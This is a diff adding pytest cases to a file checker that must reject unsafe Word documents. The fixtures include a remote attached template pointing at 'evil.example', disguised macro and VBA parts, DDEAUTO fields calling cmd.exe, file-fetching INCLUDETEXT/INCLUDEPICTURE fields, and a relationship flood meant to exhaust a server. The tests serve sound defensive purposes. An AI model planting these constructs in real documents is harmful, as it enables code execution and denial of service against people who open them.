@@ -5,7 +5,7 @@ import pytest
 from booster.files import kinds, word
 from booster.files.kinds import Kind, Locked, kind_of_content, kind_of_name
 from booster.files.word import Unsafe
-from tests.unit.files.conftest import PDF, docx, picture
+from tests.unit.files.conftest import PDF, WORD, docx, field, picture, simple_field, types
 
 
 @pytest.mark.parametrize(
@@ -97,6 +97,56 @@ def test_a_document_that_fetches_what_it_shows_from_elsewhere_is_unsafe(kind):
 def test_a_document_whose_list_of_parts_no_word_processor_writes_is_unsafe(types):
     with pytest.raises(Unsafe):
         kind_of_content(docx(more=[("[Content_Types].xml", types)]))
+
+
+TYPE = '<Override PartName="/word/{}" ContentType="application/{}"/>'
+TEMPLATE = (
+    '<Relationship Type="http://schemas/attachedTemplate" Target="https://evil.example/x" TargetMode="External"/>'
+)
+LINKS = f"<Relationships>{TEMPLATE}</Relationships>"
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        {"word/_rels/settings.xml.RELS": LINKS.format("attachedTemplate", "External")},
+        {"word/Document.xml": "<document/>"},
+        {"[Content_Types].xml": types(WORD, TYPE.format("more.xml", "vnd.ms-word.document.MacroEnabled.main+xml"))},
+        {"[Content_Types].xml": types(WORD, TYPE.format("more.xml", "vnd.ms-office.vbaProject"))},
+        {"[Content_Types].xml": types(WORD, TYPE.format("text.png", WORD.removeprefix("application/")))},
+        {"word/_rels/more.xml.rels": LINKS.format("vbaProject", "Internal")},
+    ],
+)
+def test_a_document_that_hides_what_runs_under_another_name_is_unsafe(parts):
+    with pytest.raises(Unsafe):
+        kind_of_content(docx(more=parts.items()))
+
+
+@pytest.mark.parametrize(
+    "told", ["DDEAUTO c:/cmd.exe", " dde x", 'LINK Excel.Sheet "x"', 'INCLUDETEXT "x"', r'INCLUDEPICTURE "x.png" \d']
+)
+def test_a_field_that_asks_a_program_or_fetches_a_file_is_unsafe_in_one_piece_or_several(told):
+    for text in (simple_field(told), field(told), field(told[:3], told[3:])):
+        with pytest.raises(Unsafe):
+            kind_of_content(docx(more=[("word/header1.XML", text)]))
+
+
+@pytest.mark.parametrize(
+    "told",
+    ["PAGE", r'TOC \o "1-3"', 'HYPERLINK "https://a.example/DDE"', r'INCLUDEPICTURE "C:\\d\\a.png" \* MERGEFORMATINET'],
+)
+def test_page_numbers_contents_links_and_pictures_that_were_pasted_are_taken(told):
+    text = f"{simple_field(told)}{field(told)}<p><t>INCLUDETEXT is a field</t></p>"
+
+    assert kind_of_content(docx(more=[("word/footer1.xml", f"<p>{text}</p>")])) is Kind.DOCX
+
+
+def test_a_small_document_whose_parts_are_read_without_end_is_unsafe():
+    """Each part is small; all together they keep the server busy."""
+    links = f"<Relationships>{'<a/>' * 100_000}</Relationships>"
+
+    with pytest.raises(Unsafe):
+        kind_of_content(docx(more=[(f"word/_rels/{number}.rels", links) for number in range(6)]))
 
 
 def test_a_document_with_members_nobody_can_look_at_is_unsafe():
